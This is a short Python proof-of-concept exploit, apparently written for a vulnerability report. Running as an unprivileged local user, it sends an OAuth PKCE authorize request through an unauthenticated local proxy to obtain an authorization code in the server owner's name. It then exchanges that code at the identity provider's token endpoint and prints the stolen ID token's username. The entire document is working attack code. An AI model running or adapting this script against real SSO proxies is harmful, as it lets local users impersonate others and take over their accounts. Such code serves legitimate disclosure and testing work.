# Runs as an unprivileged local user. Gets an ID token of the server owner's IdP user through the unauthenticated proxy.
import base64, hashlib, http.client, json, os, secrets, sys, urllib.parse
idp, proxy = sys.argv[1], int(sys.argv[2])
print("attacker uid", os.getuid())
verifier = secrets.token_urlsafe(48)
challenge = base64.urlsafe_b64encode(hashlib.sha256(verifier.encode()).digest()).rstrip(b"=").decode()
redirect = "http://127.0.0.1:9/callback"
url = (idp + "/authorize?" + urllib.parse.urlencode({"response_type": "code", "client_id": "ssokit-demo",
       "redirect_uri": redirect, "scope": "openid profile", "state": "s", "nonce": "n",
       "code_challenge": challenge, "code_challenge_method": "S256"}))
c = http.client.HTTPConnection("127.0.0.1", proxy); c.request("GET", url); r = c.getresponse(); r.read()
print("proxy answered", r.status, (r.getheader("location") or "")[:80])
code = urllib.parse.parse_qs(urllib.parse.urlparse(r.getheader("location")).query)["code"][0]
u = urllib.parse.urlparse(idp)
c = http.client.HTTPConnection(u.hostname, u.port)
c.request("POST", "/token", urllib.parse.urlencode({"grant_type": "authorization_code", "code": code, "redirect_uri": redirect,
          "client_id": "ssokit-demo", "code_verifier": verifier}), {"Content-Type": "application/x-www-form-urlencoded"})
t = json.loads(c.getresponse().read())
p = t["id_token"].split(".")[1]; p += "=" * (-len(p) % 4)
print("id_token claims:", json.loads(base64.urlsafe_b64decode(p))["preferred_username"])
